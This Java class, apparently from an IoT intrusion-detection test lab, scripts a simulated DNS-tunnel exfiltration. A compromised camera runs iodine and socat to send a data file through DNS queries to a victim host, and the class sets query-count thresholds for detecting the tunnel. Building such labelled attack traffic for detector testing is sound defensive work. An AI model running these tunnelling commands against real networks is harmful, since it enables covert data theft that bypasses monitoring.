package io.iotwatch.sim.lab;

import io.iotwatch.packet.dns.DnsMessage;
import io.iotwatch.sim.truth.AttackKind;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.function.Predicate;

/**
 * iodine from the compromised camera to iodined on the victim, straight to it as to an authoritative server
 * ({@code -r}: no raw UDP shortcut, everything in DNS), carrying {@link LabFiles#TUNNEL_BYTES} bytes of the
 * run's data over TCP through the tunnel to a socat on the victim's tunnel address.
 */
final class TunnelAttack {

    private static final int PORT = 5000;

    private TunnelAttack() {}

    static AttackPlan plan(LabFiles files) {
        String camera = Topology.CAMERA.address();
        String victim = Topology.VICTIM.address();
        NsCommand sink = NsCommand.unbounded(Topology.VICTIM, "socat", "-u",
                "TCP-LISTEN:" + PORT + ",bind=" + Topology.TUNNEL_SERVER + ",reuseaddr",
                "OPEN:" + files.tunnelReceived() + ",creat,trunc");
        NsCommand client = NsCommand.unbounded(Topology.CAMERA, "iodine", "-f", "-r", "-P", LabFiles.TUNNEL_PASSWORD,
                victim, Topology.TUNNEL_DOMAIN);
        // Done when the victim has every byte: socat returns once the data is in its socket, long before the
        // slow tunnel has carried it, and stopping iodine then would cut the transfer short.
        NsCommand transfer = NsCommand.script(Topology.CAMERA, Duration.ofSeconds(120), String.join("; ",
                "for i in $(seq 60); do ip -4 addr show dns0 2>/dev/null | grep -q 'inet ' && break; sleep 0.5; done",
                "socat -u OPEN:" + Shell.quote(files.tunnelData().toString()) + " TCP:" + Topology.TUNNEL_SERVER + ":" + PORT
                        + ",connect-timeout=10",
                "while [ $(stat -c %s " + Shell.quote(files.tunnelReceived().toString()) + " 2>/dev/null || echo 0) -lt "
                        + LabFiles.TUNNEL_BYTES + " ]; do sleep 0.5; done"));
        String suffix = "." + Topology.TUNNEL_DOMAIN;
        Predicate<LabPacket> query = p -> p.from(camera) && p.to(victim) && p.destinationPort() == 53 && inTunnel(p, suffix);
        return new AttackPlan(AttackKind.DNS_TUNNEL, List.of(camera), Topology.TUNNEL_DOMAIN, List.of("iodine", "socat"),
                List.of(sink, client), Duration.ZERO, List.of(transfer), List.of(
                        Criterion.count("DNS queries from " + camera + " under " + Topology.TUNNEL_DOMAIN, 200, query),
                        Criterion.distinct("distinct names queried", 100, query, p -> p.dns().queryName())));
    }

    private static boolean inTunnel(LabPacket p, String suffix) {
        DnsMessage dns = p.dns();
        return dns != null && !dns.response() && dns.queryName() != null
                && dns.queryName().toLowerCase(Locale.ROOT).endsWith(suffix);
    }
}
